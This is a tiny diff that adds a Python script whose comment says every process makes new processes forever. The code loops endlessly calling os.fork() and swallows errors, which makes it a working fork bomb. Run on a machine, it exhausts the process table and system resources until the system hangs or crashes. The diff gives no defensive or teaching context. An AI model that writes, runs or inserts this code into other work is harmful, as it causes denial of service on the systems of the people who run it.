@@ -1,0 +1,8 @@
+# Every process makes new processes for ever.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
